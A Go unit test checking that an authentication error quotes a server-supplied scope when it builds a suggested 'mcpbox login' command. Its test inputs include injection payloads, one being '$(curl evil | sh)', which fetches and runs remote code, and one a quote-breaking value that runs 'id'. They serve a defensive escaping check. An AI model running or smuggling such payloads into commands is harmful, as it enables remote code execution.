package launch

import (
	"strings"
	"testing"
)

// TestAuthErrorQuotesScope: the scope in a step-up's login command is the
// remote server's; the command quotes it so that pasting it runs nothing
// the server put there.
func TestAuthErrorQuotesScope(t *testing.T) {
	for scope, want := range map[string]string{
		"admin":             "--scope admin`",
		"read write":        "--scope 'read write'`",
		"$(curl evil | sh)": "--scope '$(curl evil | sh)'`",
		"a'`id`":            `--scope 'a'\''` + "`id`'`",
	} {
		msg := (&AuthError{Server: "r", Flags: " --config /p/mcpbox.yaml", StepUp: true, Scope: scope}).Error()
		if !strings.Contains(msg, "run `mcpbox login r --config /p/mcpbox.yaml "+want) {
			t.Errorf("scope %q: %s; want ... %s", scope, msg, want)
		}
	}
}
